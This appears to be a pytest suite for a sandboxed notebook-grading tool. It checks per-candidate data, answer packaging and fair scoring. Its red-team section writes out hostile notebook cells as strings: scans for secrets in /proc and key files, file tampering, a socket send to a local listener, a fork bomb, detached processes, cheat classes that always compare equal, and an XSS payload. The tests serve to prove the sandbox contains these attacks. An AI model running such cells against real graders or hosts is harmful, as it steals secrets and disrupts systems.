"""opshelpers.assess: per-candidate data, packages without answers, sandboxed grading.

The red-team notebooks below attack the grader the way a hostile candidate would; each
must fail (grading finishes, the secret appears nowhere, other candidates' grades are
unchanged, the score is what the honest answers earn). They need bubblewrap: CI
installs it (.ci/run) and sets OPSLAB_REQUIRE_SANDBOX=1, so there they fail, never skip.
"""

import hashlib
import json
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from opshelpers import assess, bank, sandbox, synth
from opshelpers.bank import NotPosed
from opshelpers.cli import main

SECRET = "test-secret-0123456789abcdef"
MARKER = "private_solver_5f3a9c1e"      # appears only in the private bank's source

TEST_BANK = f'''
from dataclasses import replace
from opshelpers import bank
from opshelpers.bank import Question, Spec


def {MARKER}(tables):
    return "sealed"


PROBE = Question("q_probe", {{"zh": "探针", "en": "probe"}}, {MARKER}, Spec("text"))
demo = bank.load()
EXERCISES = [replace(demo["junior_ops"], n_users=1000, public=False,
                     questions=demo["junior_ops"].questions + (PROBE,))]
'''

needs_sandbox = pytest.mark.skipif(
    sandbox.available() is not None and not os.environ.get("OPSLAB_REQUIRE_SANDBOX"),
    reason=f"no grading sandbox here: {sandbox.available()}")


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("assess")
    key = root / "key.txt"
    key.write_text(SECRET)
    bank_file = root / "private_bank.py"
    bank_file.write_text(TEST_BANK)
    solutions = {c: assess.solution_package("junior_ops", c, key, root / "sol", bank_file)
                 for c in ("c001", "c002", "c003")}
    blank = assess.new_package("junior_ops", "c001", key, root / "new", bank_file, lang="en")
    return {"root": root, "key": key, "bank": bank_file, "solutions": solutions,
            "blank": blank}


def _notebook(world, candidate="c001"):
    return nbformat.read(world["solutions"][candidate] / "exercise.ipynb", as_version=4)


def _with_cell(nb, code: str, at: int | None = None):
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))       # a copy
    cell = nbformat.v4.new_code_cell(code)
    nb.cells.insert(len(nb.cells) if at is None else at, cell)
    return nb


def _points(report):
    return {q["question"]: q["points"] for q in report["questions"]}


# ------------------------------------------------------------------ data and packages
def test_candidates_get_different_data_answers_and_scenarios(world):
    a = assess.expected_answers(SECRET, "junior_ops", "c001")
    b = assess.expected_answers(SECRET, "junior_ops", "c002")
    assert a["q1_uv"] != b["q1_uv"] and a["q4_paid_aov"] != b["q4_paid_aov"]
    s1, sc1, f1 = assess.derive(SECRET, "growth_analyst", "c001")
    s2, sc2, f2 = assess.derive(SECRET, "growth_analyst", "c002")
    assert s1 != s2 and f1 != f2 and sc1 != sc2
    assert assess.derive(SECRET, "growth_analyst", "c001") == (s1, sc1, f1)   # stable


def test_package_holds_no_answers_seed_or_solver(world):
    blank = world["blank"]
    text = (blank / "exercise.ipynb").read_text()
    nb = nbformat.reads(text, as_version=4)
    answers = assess.expected_answers(SECRET, "junior_ops", "c001", world["bank"])
    posed = [q for q, v in answers.items() if not isinstance(v, NotPosed)]
    assert all(f"{q} = None" in text for q in posed)
    assert f"= {answers['q1_uv']}" not in text and f"= {answers['q2_pv']}" not in text
    seed, _, fingerprint = assess.derive(SECRET, "junior_ops", "c001")
    assert str(seed) not in text and set(nb.metadata["opslab"]) == {
        "exercise", "candidate", "fingerprint"}
    assert nb.metadata["opslab"]["fingerprint"] == fingerprint
    assert sorted(p.stem for p in (blank / "data").glob("*.csv")) == sorted(
        ("users", "visits", "events", "orders"))


def test_the_candidate_environment_holds_no_private_solver(world):
    """The installed package (what pip gives a candidate) and the candidate's folder:
    no file mentions the private bank's solver; the package has no answer key."""
    package = Path(assess.__file__).parent
    files = [p for p in package.rglob("*") if p.is_file()] + [
        p for p in world["blank"].rglob("*") if p.is_file()]
    assert len(files) > 50
    assert not [p for p in files if MARKER.encode() in p.read_bytes()]
    assert not hasattr(assess, "EXERCISES")
    assert all(ex.public for ex in bank.load().values())          # the demo says so


@needs_sandbox
def test_demo_bank_grades_its_own_solutions_100_percent(tmp_path):
    """Every demo exercise at its real size: the reference notebook scores 100 %."""
    for exercise in bank.load():
        sol = assess.solution_package(exercise, "d01", SECRET, tmp_path)
        r = assess.grade(sol / "exercise.ipynb", "d01", SECRET, out=tmp_path / "rep")
        assert r["score"] == 1.0, (exercise, r["problems"], r["questions"])
        assert r["problems"] == [] and r["public_bank"]
        assert "demo bank" in (tmp_path / "rep" / f"{exercise}_d01.md").read_text()


# ------------------------------------------------------------------ fairness
# 30 candidates × the demo bank: each posed answer equals an independent computation
# (DuckDB SQL, scipy, a scan written here afresh); each choice beats its runner-up by
# more than its margin, and an unposed one does not.
FAIR_CANDIDATES = [f"f{i:02d}" for i in range(30)]


def _candidates(exercise: str):
    """(candidate, expected answers, tables, DuckDB connection) for each fairness id."""
    import duckdb

    ex = bank.load()[exercise]
    for cand in FAIR_CANDIDATES:
        tables = assess._tables(SECRET, ex, cand)
        expected = assess.expected_answers(SECRET, exercise, cand, tables=tables)
        con = duckdb.connect()
        for name, df in tables.items():
            con.register(name, df)
        yield cand, expected, tables, con
        con.close()


def test_growth_answers_follow_from_each_candidates_data():
    import numpy as np
    from scipy import stats

    posed = {"q1_drop_channel": 0, "q7_srm_test": 0}
    srm_answers = set()
    for cand, eg, tg, con in _candidates("growth_analyst"):
        q = lambda sql: con.execute(sql).fetchone()       # noqa: E731
        # the drop: a binomial likelihood-ratio scan per channel, written here afresh
        v = tg["visits"][tg["visits"]["landing_page"] != "lp_invite"]
        daily = v.assign(day=v["visit_time"].dt.normalize()).groupby(
            ["channel", "day"], observed=True)["signed_up"].agg(["sum", "size"])
        best = {}
        for ch, g in daily.groupby(level=0, observed=True):
            k, n = g["sum"].to_numpy(float), g["size"].to_numpy(float)
            ck, cn = np.cumsum(k), np.cumsum(n)

            def ll(s, m):
                p = np.clip(s / m, 1e-12, 1 - 1e-12)
                return s * np.log(p) + (m - s) * np.log(1 - p)
            lr = 2 * (ll(ck[:-1], cn[:-1]) + ll(ck[-1] - ck[:-1], cn[-1] - cn[:-1])
                      - ll(ck[-1], cn[-1]))
            drop = ck[:-1] / cn[:-1] > (ck[-1] - ck[:-1]) / (cn[-1] - cn[:-1])
            lr = np.where(drop, lr, -np.inf)
            j = int(np.argmax(lr))
            best[ch] = (lr[j], g.index.get_level_values(1)[j + 1])
        ranked = sorted(best.items(), key=lambda kv: -kv[1][0])
        lead = ranked[0][1][0] - ranked[1][1][0]
        if isinstance(eg["q1_drop_channel"], NotPosed):
            assert lead <= 10.0 + 1.0, (cand, ranked[:2])   # scan variants differ by < 1
        else:
            posed["q1_drop_channel"] += 1
            assert lead > 10.0 - 1.0 and eg["q1_drop_channel"] == ranked[0][0], cand
            day = ranked[0][1][1]
            assert abs((pd.Timestamp(eg["q2_drop_date"]) - day).days) <= 2, cand
            after = q(f"SELECT avg(signed_up::INT) FROM visits WHERE channel = "
                      f"'{eg['q1_drop_channel']}' AND visit_time >= '{eg['q2_drop_date']}'")[0]
            assert eg["q3_rate_after"] == pytest.approx(after, rel=1e-12)
        top10 = q("""WITH r AS (SELECT user_id, sum(paid) s FROM orders GROUP BY 1),
                     k AS (SELECT s, row_number() OVER (ORDER BY s DESC) i FROM r)
                     SELECT sum(s) FILTER (WHERE i <= ceil(0.1 * (SELECT count(*) FROM r)))
                            / sum(s) FROM k""")[0]
        assert eg["q4_top10_share"] == pytest.approx(top10, rel=1e-9)
        a, b = (q(f"""SELECT avg(c::INT), count(*) FROM (SELECT a.user_id, coalesce(bool_or(
                         o.order_time >= a.assigned_time AND o.order_time < '2026-05-13'), false) c
                       FROM ab_assignments a LEFT JOIN orders o USING (user_id)
                       WHERE experiment = 'checkout_button' AND variant = '{arm}'
                       GROUP BY 1)""") for arm in "AB")
        diff = b[0] - a[0]
        se = (a[0] * (1 - a[0]) / a[1] + b[0] * (1 - b[0]) / b[1]) ** 0.5
        assert eg["q5_ab_diff"] == pytest.approx(diff, abs=1e-12)
        assert eg["q6_ab_ci_low"] == pytest.approx(diff - 1.959963984540054 * se, abs=5e-4)
        # SRM: exact binomial tests (the bank uses chi-square)
        p = {}
        for name in ("checkout_button", "coupon_banner"):
            nb_, n_ = q(f"SELECT count(*) FILTER (WHERE variant = 'B'), count(*) FROM "
                        f"ab_assignments WHERE experiment = '{name}'")
            p[name] = stats.binomtest(nb_, n_, 0.5).pvalue
        srm = eg["q7_srm_test"]
        if isinstance(srm, NotPosed):
            assert any(1e-4 < x < 0.05 for x in p.values()) or \
                sum(x < 0.001 for x in p.values()) > 1, (cand, p)
        else:
            posed["q7_srm_test"] += 1
            srm_answers.add(srm)
            flagged = [k for k, x in p.items() if x < 0.002]
            assert (flagged == [srm]) if srm != "none" else not flagged, (cand, p, srm)
            assert all(x > 0.005 for k, x in p.items() if k != srm), (cand, p)
    # the questions are posed often enough to be worth asking, and "none" does occur
    assert posed["q1_drop_channel"] >= 25 and posed["q7_srm_test"] >= 20
    assert {"none", "checkout_button", "coupon_banner"} <= srm_answers


def test_junior_answers_follow_from_each_candidates_data():
    top_posed = 0
    for cand, ej, tj, con in _candidates("junior_ops"):
        q = lambda sql: con.execute(sql).fetchone()       # noqa: E731
        assert ej["q1_uv"] == q("SELECT count(DISTINCT visitor_id) FROM visits")[0]
        assert ej["q2_pv"] == q("SELECT sum(pageviews) FROM visits")[0]
        assert ej["q3_cvr"] == pytest.approx(q("SELECT avg(signed_up::INT) FROM visits")[0],
                                             rel=1e-12)
        assert ej["q4_paid_aov"] == pytest.approx(q("SELECT avg(paid) FROM orders")[0],
                                                  rel=1e-12)
        d7 = q("""WITH last AS (SELECT max(event_time::DATE) d FROM events),
                  u AS (SELECT user_id, signup_time::DATE s FROM users, last
                        WHERE signup_time::DATE + 7 <= last.d)
                  SELECT avg((EXISTS (SELECT 1 FROM events e WHERE e.user_id = u.user_id
                                      AND e.event_time::DATE = u.s + 7))::INT) FROM u""")[0]
        assert ej["q5_d7"] == pytest.approx(d7, rel=1e-12)
        counts = con.execute("SELECT channel, count(*) n FROM users GROUP BY 1 "
                             "ORDER BY n DESC").fetchall()
        if isinstance(ej["q6_top_channel"], NotPosed):
            assert counts[0][1] == counts[1][1]
        else:
            top_posed += 1
            assert ej["q6_top_channel"] == counts[0][0] and counts[0][1] > counts[1][1]
        assert ej["q7_march_buyers"] == q("SELECT count(DISTINCT user_id) FROM orders "
                                          "WHERE month(order_time) = 3")[0]
    assert top_posed >= 25


def test_content_answers_follow_from_each_candidates_data():
    for cand, ec, tc, con in _candidates("content_ops"):
        posts = tc["posts"]
        q = lambda sql: con.execute(sql).fetchone()       # noqa: E731
        gap = q("""SELECT avg(completion_rate) FILTER (WHERE hour(publish_time) IN (20, 21))
                   - avg(completion_rate) FILTER (WHERE hour(publish_time) NOT IN (20, 21))
                   FROM posts WHERE completion_rate IS NOT NULL""")[0]
        assert ec["q1_prime_gap"] == pytest.approx(gap, rel=1e-9)
        topics = con.execute("SELECT topic, sum(shares) / sum(reads) r FROM posts GROUP BY 1 "
                             "ORDER BY r DESC").fetchall()
        if not isinstance(ec["q2_best_topic"], NotPosed):
            assert ec["q2_best_topic"] == topics[0][0] and topics[0][1] - topics[1][1] > 0.001
        ratio = q("""SELECT avg(reads / impressions) FILTER (WHERE regexp_matches(title, '\\d'))
                     / avg(reads / impressions) FILTER (WHERE NOT regexp_matches(title, '\\d'))
                     FROM posts""")[0]
        assert ec["q3_number_ratio"] == pytest.approx(ratio, rel=1e-9)
        rules = json.loads((Path(assess.__file__).parent / "adlaw.json").read_text())
        high = [r["word"] for r in rules["rules"] if r["severity"] == "high"]
        risky = set()
        for pid, title in zip(posts["post_id"], posts["title"]):
            clean = title
            for phrase in rules["exceptions"]:
                clean = clean.replace(phrase, "")
            if any(w in clean for w in high):
                risky.add(pid)
        assert ec["q4_banned"] == len(risky), cand
        rel = con.execute("""SELECT post_id, reads / median(reads) OVER (PARTITION BY platform) r
                             FROM posts ORDER BY r DESC LIMIT 2""").fetchall()
        if isinstance(ec["q5_viral"], NotPosed):
            assert rel[0][1] - rel[1][1] <= 2.0
        else:
            assert ec["q5_viral"] == rel[0][0] and rel[0][1] - rel[1][1] > 2.0
        follows = con.execute("""SELECT account, sum(follows) f, sum(sum(follows)) OVER () t
                                 FROM posts WHERE platform = 'xiaohongshu' GROUP BY 1
                                 ORDER BY f DESC""").fetchall()
        if not isinstance(ec["q6_competitor"], NotPosed):
            assert ec["q6_competitor"] == follows[0][0]
            assert follows[0][1] - follows[1][1] > 0.05 * follows[0][2]


# ------------------------------------------------------------------ scoring
def test_answers_cross_the_boundary_only_as_plain_values():
    names = ["a", "b", "c", "d", "e", "f", "g", "h"]
    wire = json.dumps({"a": {"t": "int", "v": 3}, "b": {"t": "float", "v": "1e400"},
                       "c": {"t": "other", "type": "Cheat"}, "d": {"t": "int", "v": 10 ** 20},
                       "e": {"t": "text", "v": "x" * 501}, "f": "garbage",
                       "g": {"t": "date", "v": "2026-02-30"}})
    got = assess.from_wire(wire, names)
    assert got["a"] == 3
    assert got["b"].message == "check.shape.not_finite"
    assert got["c"].message == "assess.answer.not_plain" and got["c"].fields == {"type": "Cheat"}
    assert got["d"].message == "assess.answer.unreadable"           # over 10**15: not trusted
    assert got["e"].message == "assess.answer.unreadable"
    assert got["f"].message == "assess.answer.unreadable"
    assert got["g"].message == "assess.answer.unreadable"            # 30 February
    assert got["h"].message == "assess.answer.missing"
    assert all(v.message == "assess.answer.missing"
               for v in assess.from_wire("[1, 2]", ["x", "y"]).values())
    assert assess.from_wire("{" * 100_000, ["x"])["x"].message == "assess.answer.missing"


# ------------------------------------------------------------------ grading in the sandbox
@needs_sandbox
def test_solution_scores_100_blank_scores_0_and_reports_are_bilingual(world, tmp_path):
    key, sol = world["key"], world["solutions"]["c001"]
    before = (sol / "exercise.ipynb").read_bytes()
    good = assess.grade(sol / "exercise.ipynb", "c001", key, bank=world["bank"],
                        out=tmp_path / "rep", lang="zh")
    assert good["score"] == 1.0 and good["problems"] == [] and good["sandboxed"]
    assert (sol / "exercise.ipynb").read_bytes() == before          # untouched
    md = (tmp_path / "rep" / "junior_ops_c001.md").read_text()
    assert "自动评分" in md and "标准答案" in md and "管理者版本" in md
    cand = (tmp_path / "rep" / "junior_ops_c001.candidate.md").read_text()
    expected = assess.expected_answers(SECRET, "junior_ops", "c001", world["bank"])
    assert "| 标准答案 |" in md and "| 标准答案 |" not in cand and f"{expected['q4_paid_aov']:.10g}" in md
    assert f"{expected['q4_paid_aov']:.10g}" in cand                 # the candidate's own
    empty = assess.grade(world["blank"] / "exercise.ipynb", "c001", key, bank=world["bank"],
                         out=tmp_path / "rep2", lang="en")
    assert empty["score"] == 0.0
    assert all(q["why"].startswith("⏳") for q in empty["questions"])
    html = (tmp_path / "rep2" / "junior_ops_c001.html").read_text()
    assert "Auto-graded" in html and "<script" not in html and "http" not in html


@needs_sandbox
def test_partial_credit_mistakes_and_cell_errors(world):
    exp = assess.expected_answers(SECRET, "junior_ops", "c001", world["bank"])
    nb = _notebook(world)
    for cell in nb.cells:
        cell.source = (cell.source
                       .replace(f"q3_cvr = {exp['q3_cvr']!r}", f"q3_cvr = {exp['q3_cvr'] + 0.002!r}")
                       .replace(f"q5_d7 = {exp['q5_d7']!r}", f"q5_d7 = {exp['q5_d7'] * 100!r}")
                       .replace("q7_march_buyers =", "1 / 0\nq7_march_buyers ="))
    path = world["root"] / "partial.ipynb"
    nbformat.write(nb, path)
    r = assess.grade(path, "c001", world["key"], bank=world["bank"])
    pts = _points(r)
    assert pts["q3_cvr"] == 0.5 and pts["q5_d7"] == 0.0 and pts["q7_march_buyers"] == 0.0
    why = {q["question"]: q["why"] for q in r["questions"]}
    assert "percentage" in why["q5_d7"]
    assert any("ZeroDivisionError" in e["error"] for e in r["cell_errors"])
    assert pts["q1_uv"] == 1.0


WALK = '''
def files_outside_system():
    """(folder, file name) of every file but the system's and the Python environment's."""
    import os, sys
    skip = ("/proc", "/dev", "/sys", "/usr", "/lib", "/bin", "/sbin", sys.prefix,
            sys.base_prefix, os.path.realpath(sys.base_prefix))
    for root, dirs, files in os.walk("{walk_root}"):
        if root.startswith(skip) and root != "/":
            dirs[:] = []
            continue
        for f in files:
            yield root, f
'''
ATTACKS = {
    # each ends by setting q_probe: "sealed" when the attack found nothing
    "secret_hunt": '''
import os
loot = []
for pid in os.listdir("/proc"):
    for part in ("cmdline", "environ"):
        try:
            text = open(f"/proc/{pid}/{part}", "rb").read().replace(b"\\0", b" ").decode()
        except OSError:
            continue
        if "secret" in text or "{key}" in text or "private_bank" in text:
            loot.append(text[:200])
for root, f in files_outside_system():
    if f.endswith((".txt", ".key", ".pem")) or ("bank" in f and "/opshelpers" not in root):
        loot.append(os.path.join(root, f))                # the package's banks are public
for path in ["{key}", "{bank}"]:
    if os.path.exists(path):
        loot.append(path)
if any(k.lower().startswith("opslab") or "SECRET" in k for k in os.environ):
    loot.append(str(dict(os.environ)))
q_probe = "sealed" if not loot else ("breached " + " | ".join(loot))[:400]
''',
    "files": '''
import os
loot = []
try:
    loot.append(open("{manager}").read())
except OSError:
    pass
for path in ("{outside}", "/root/pwned", "{manager}.new"):
    try:
        open(path, "w").write("pwned")
        loot.append("wrote " + path)
    except OSError:
        pass
try:
    os.remove("{manager}")
    loot.append("deleted")
except OSError:
    pass
q_probe = "sealed" if not loot else ("breached " + " | ".join(loot))[:400]
''',
    "network": '''
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
    s.sendall(b"exfiltrated")
    q_probe = "breached: connected"
except OSError:
    q_probe = "sealed"
''',
    "forks": '''
import os, time
made = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    made += 1
q_probe = "sealed" if made < 100 else f"breached: {made} processes"
''',
    "background": '''
import subprocess, os, sys
subprocess.Popen(["sleep", "913"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    import time
    for _ in range(60):
        for root, dirs, files in os.walk("{walk_root}"):
            if root.startswith(("/proc", "/usr", "/lib")):
                dirs[:] = []
            for f in files:
                if f.endswith((".csv", ".ipynb")) and "candidate" not in root:
                    try:
                        open(os.path.join(root, f), "w").write("candidate,score\\nc101,1.0\\n")
                    except OSError:
                        pass
        time.sleep(1)
    os._exit(0)
q_probe = "sealed"
''',
    "scan": '''
import os
hits = []
for root, f in files_outside_system():
    path = os.path.join(root, f)
    try:
        if f.endswith(".py") and os.path.getsize(path) < 1_000_000 and \
                b"{marker}" in open(path, "rb").read():
            hits.append(path)
    except OSError:
        pass
q_probe = "sealed" if not hits else ("breached " + " ".join(hits))[:400]
''',
    "shadow": '''
import builtins, json
open = None
json = None
builtins.open = lambda *a, **k: 1 / 0
builtins.print = None
q_probe = "sealed"
''',
    "stubborn_loop": '''
import signal
q_probe = "sealed"
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
''',
}
EARLY = {   # placed right after the data is loaded: the cells after them must still run
    "loop": "while True:\n    pass",
    "memory": "block = bytearray(4 * 2 ** 30)",
    # 20 MB: four times the output limit, and printed well inside the 2 s cell timeout
    # even on a loaded machine (200 MB once outlasted it when the tests ran beside others)
    "output": "for _ in range(20):\n    print('x' * 1_000_000)",
}
CHEATS = {   # answers that must score 0, each with its own message
    "fake": '''
class Cheat(float):
    def __eq__(self, other): return True
    def __float__(self): return 0.0
class Anything:
    def __eq__(self, other): return True
    __hash__ = object.__hash__
class Text(str):
    def __eq__(self, other): return True
    def lower(self): return "kol"
q3_cvr, q4_paid_aov, q6_top_channel = Cheat(0.0), Anything(), Text("zzz")
''',
    "huge": "q1_uv = 10 ** 400\nq2_pv = float('nan')\nq7_march_buyers = 10 ** 16",
}


@needs_sandbox
def test_red_team_batch(world, tmp_path):
    """One batch (-j 2) of attacking notebooks beside honest ones."""
    root = world["root"]
    manager = tmp_path / "manager_notes.txt"
    manager.write_text("salaries and the interview plan")
    outside = tmp_path / "outside.txt"
    hits = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                hits.append(conn.recv(100))
                conn.close()
            except OSError:
                pass
    threading.Thread(target=listen, daemon=True).start()
    fill = {"key": world["key"], "bank": world["bank"], "manager": manager,
            "outside": outside, "port": server.getsockname()[1], "marker": MARKER,
            "walk_root": "/"}

    subs = tmp_path / "subs"
    subs.mkdir()
    plan = {}          # candidate -> (attack, expected points lost)
    kinds = [(n, code, None) for n, code in ATTACKS.items()] + [
        (n, code, 2) for n, code in EARLY.items()] + [(n, code, None) for n, code in CHEATS.items()]
    for i, (name, code, at) in enumerate(kinds, 101):
        cand = f"c{i}"
        sol = assess.solution_package("junior_ops", cand, world["key"], root / "sol",
                                      world["bank"])
        nb = _with_cell(nbformat.read(sol / "exercise.ipynb", as_version=4),
                        _fill(code, fill, probe=name in ATTACKS and name != "stubborn_loop"),
                        at)
        nbformat.write(nb, subs / f"{cand}.ipynb")
        plan[cand] = name
    for cand in ("c002", "c003"):
        (subs / f"{cand}.ipynb").write_bytes(
            (world["solutions"][cand] / "exercise.ipynb").read_bytes())
    digests = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in subs.iterdir()}

    limits = sandbox.Limits(cell_timeout=2, total_timeout=90, output_mb=5)
    csv = tmp_path / "out" / "scores.csv"
    started = time.perf_counter()
    table = assess.grade_batch(subs, "junior_ops", world["key"], csv, bank=world["bank"],
                               jobs=2, limits=limits)
    seconds = time.perf_counter() - started
    written = csv.read_bytes()
    time.sleep(3)                                    # give any survivor time to act
    stop.set()
    assert csv.read_bytes() == written
    rows = table.set_index("candidate")

    # honest candidates are untouched by the attackers
    assert rows.loc["c002", "score"] == 1.0 and rows.loc["c003", "score"] == 1.0
    assert {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
            for p in subs.iterdir()} == digests
    for cand, name in plan.items():
        row = rows.loc[cand]
        if name in ATTACKS or name in EARLY:
            assert row["q_probe"] == 1.0 and row["score"] == 1.0, (name, row["problems"])
    for name in ("fake", "huge"):
        row = rows.loc[_cand(plan, name)]
        n = int(row[rows.columns.str.startswith("q")].notna().sum())
        assert row["score"] == pytest.approx((n - 3) / n), name
    problems = rows["problems"].to_dict()
    assert "timed out and was interrupted" in problems[_cand(plan, "loop")]
    assert "could not be interrupted" in problems[_cand(plan, "stubborn_loop")]
    assert "output limit" in problems[_cand(plan, "output")]
    assert "MemoryError" in json.dumps(json.loads(
        (csv.parent / f"junior_ops_{_cand(plan, 'memory')}.json").read_text())["cell_errors"])
    fake = json.loads((csv.parent / f"junior_ops_{_cand(plan, 'fake')}.json").read_text())
    whys = {q["question"]: q["why"] for q in fake["questions"]}
    assert "not a plain value (type Cheat)" in whys["q3_cvr"]
    assert "not a plain value (type Anything)" in whys["q4_paid_aov"]
    assert "not a plain value (type Text)" in whys["q6_top_channel"]
    huge = json.loads((csv.parent / f"junior_ops_{_cand(plan, 'huge')}.json").read_text())
    whys = {q["question"]: q["why"] for q in huge["questions"]}
    assert "absurdly large" in whys["q1_uv"] and "NaN or infinite" in whys["q2_pv"]
    assert "absurdly large" in whys["q7_march_buyers"]

    # nothing escaped: files, network, processes; the secret is in no output
    assert manager.read_text() == "salaries and the interview plan"
    assert not outside.exists() and not Path(f"{manager}.new").exists()
    assert hits == []
    survivors = subprocess.run(["pgrep", "-f", "sleep 913"], capture_output=True, text=True)
    assert survivors.stdout.strip() == ""
    after = pd.read_csv(csv).set_index("candidate")
    assert after.loc["c002", "score"] == 1.0 and len(after) == len(plan) + 2
    for path in csv.parent.rglob("*"):
        if path.is_file():
            assert SECRET not in path.read_text(errors="replace"), path
    print(f"red-team batch of {len(rows)} notebooks with -j 2: {seconds:.1f} s")


def _fill(code: str, fill: dict, probe: bool = True) -> str:
    """The attack with its paths filled in; an attack that must report marks itself
    unfinished first, so one that times out cannot pass for sealed."""
    if probe:
        code = 'q_probe = "unfinished"\n' + WALK + code
    for k, v in fill.items():
        code = code.replace("{" + k + "}", str(v))
    return code


def _cand(plan, name):
    return next(c for c, n in plan.items() if n == name)


@needs_sandbox
def test_a_surviving_process_cannot_change_the_csv(world, tmp_path):
    """Detached children are killed with the sandbox: the CSV does not change later."""
    code = ("import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 2; echo c001,1.0 > "
            f"{tmp_path}/subs/../out.csv'], start_new_session=True)\nq_probe = 'sealed'")
    subs = tmp_path / "subs"
    subs.mkdir()
    nbformat.write(_with_cell(_notebook(world), code), subs / "c001.ipynb")
    csv = tmp_path / "out.csv"
    assess.grade_batch(subs, "junior_ops", world["key"], csv, bank=world["bank"])
    before = csv.read_bytes()
    time.sleep(4)
    assert csv.read_bytes() == before


# ------------------------------------------------------------------ refusals and checks
def test_without_a_sandbox_grading_refuses_unless_told(world, monkeypatch, capsys, tmp_path):
    monkeypatch.setattr(sandbox, "available", lambda: "bubblewrap (bwrap) is not installed: "
                        + sandbox.INSTALL_HINT)
    sol = world["solutions"]["c001"] / "exercise.ipynb"
    with pytest.raises(sandbox.SandboxUnavailable, match="apt-get install bubblewrap"):
        assess.grade(sol, "c001", world["key"], bank=world["bank"])
    assert main(["assess", "grade", str(sol), "--candidate", "c001", "--secret",
                 str(world["key"]), "--bank", str(world["bank"])]) == 2
    err = capsys.readouterr().err
    assert "apt-get install bubblewrap" in err and "--without-sandbox" in err
    r = assess.grade(sol, "c001", world["key"], bank=world["bank"], use_sandbox=False,
                     out=tmp_path / "rep")
    assert r["score"] == 1.0 and not r["sandboxed"]
    assert any("without a sandbox" in p for p in r["problems"])
    assert "without a sandbox" in (tmp_path / "rep" / "junior_ops_c001.md").read_text()


def test_a_secret_or_bank_the_candidate_could_read_is_refused(world, monkeypatch):
    if sandbox.available() is not None:
        monkeypatch.setattr(sandbox, "available", lambda: None)
    monkeypatch.setattr(sandbox, "readable_paths", lambda: [world["root"]])
    with pytest.raises(ValueError, match="the secret .* is inside .* which the candidate can read"):
        assess.grade(world["solutions"]["c001"] / "exercise.ipynb", "c001", world["key"],
                     bank=world["bank"])


def test_secret_ids_and_fingerprint_are_checked(world, tmp_path):
    sol = world["solutions"]["c001"] / "exercise.ipynb"
    other = "another-secret-123456"
    r = assess.grade(sol, "c001", other, bank=world["bank"], use_sandbox=False)
    assert r["fatal"].startswith("this notebook was not generated for this candidate")
    r = assess.grade(sol, "c002", world["key"], bank=world["bank"], use_sandbox=False)
    assert r["fatal"].startswith("this notebook was not generated") and r["score"] == 0.0
    with pytest.raises(ValueError, match="at least 16 bytes"):
        assess.derive("fifteen-bytes-x", "junior_ops", "c001")
    assert assess.derive("sixteen-bytes-xx", "junior_ops", "c001")       # exactly 16 is enough
    with pytest.raises(KeyError, match="unknown exercise"):
        assess.new_package("senior_ops", "c001", SECRET, tmp_path)
    with pytest.raises(ValueError, match="must be 1–64 letters, digits"):
        assess.derive(SECRET, "junior_ops", "../etc")
    broken = tmp_path / "b.ipynb"
    broken.write_text("{not json")
    r = assess.grade(broken, "c001", world["key"], exercise="junior_ops", bank=world["bank"],
                     use_sandbox=False)
    assert r["score"] == 0.0 and r["fatal"].startswith("not a readable notebook")


def test_a_missing_fingerprint_or_file_is_reported_not_graded(world, tmp_path, capsys):
    nb = _notebook(world)
    del nb.metadata["opslab"]["fingerprint"]
    stripped = tmp_path / "stripped.ipynb"
    nbformat.write(nb, stripped)
    r = assess.grade(stripped, "c001", world["key"], bank=world["bank"], use_sandbox=False)
    assert r["score"] == 0.0 and r["fatal"].startswith("the notebook's fingerprint is missing")
    assert main(["assess", "grade", str(stripped), "--candidate", "c001", "--secret",
                 str(world["key"]), "--bank", str(world["bank"]), "--without-sandbox",
                 "--out", str(tmp_path / "rep")]) == 2
    anyway = assess.grade(stripped, "c001", world["key"], bank=world["bank"],
                          use_sandbox=False, unverified=True)
    assert anyway["score"] == 1.0 and anyway["fatal"] is None
    assert "fingerprint missing: graded at the manager's request." in anyway["problems"]
    with pytest.raises(FileNotFoundError, match="no submission at"):
        assess.grade(tmp_path / "nope.ipynb", "c001", world["key"])
    assert main(["assess", "grade", str(tmp_path / "nope.ipynb"), "--candidate", "c001",
                 "--secret", str(world["key"])]) == 2
    assert "no submission at" in capsys.readouterr().err


def test_renamed_answer_cells_are_reported(world):
    nb = _notebook(world)
    for cell in nb.cells:
        cell.source = cell.source.replace("q2_pv =", "pv_total =")
    path = world["root"] / "renamed.ipynb"
    nbformat.write(nb, path)
    r = assess.grade(path, "c001", world["key"], bank=world["bank"], use_sandbox=False)
    assert "answer cell for q2_pv was deleted or renamed" in r["problems"]
    assert _points(r)["q2_pv"] == 0.0 and _points(r)["q1_uv"] == 1.0


def test_candidate_text_is_escaped_in_every_report(world, tmp_path):
    nb = _notebook(world)
    evil = "<script>alert(1)</script> [click](http://x.example) | **bold** <img src=x>"
    for cell in nb.cells:
        if cell.metadata.get("opslab", {}).get("answer"):
            cell.source = evil
    path = tmp_path / "evil.ipynb"
    nbformat.write(nb, path)
    assess.grade(path, "c001", world["key"], bank=world["bank"], use_sandbox=False,
                 out=tmp_path / "rep")
    for name in ("junior_ops_c001.html", "junior_ops_c001.candidate.html"):
        html = (tmp_path / "rep" / name).read_text()
        assert "<script>alert" not in html and "&lt;script&gt;alert(1)" in html
        assert "<img" not in html
    md = (tmp_path / "rep" / "junior_ops_c001.md").read_text()
    assert "<script>" not in md and "&lt;script&gt;" in md
    assert "[click](http" not in md and "\\[click\\]" in md and "\\*\\*bold" in md


def test_batch_sums_manual_marks_and_survives_a_broken_submission(world, tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    for c in ("c001", "c002"):
        (subs / f"{c}.ipynb").write_bytes((world["solutions"][c] / "exercise.ipynb").read_bytes())
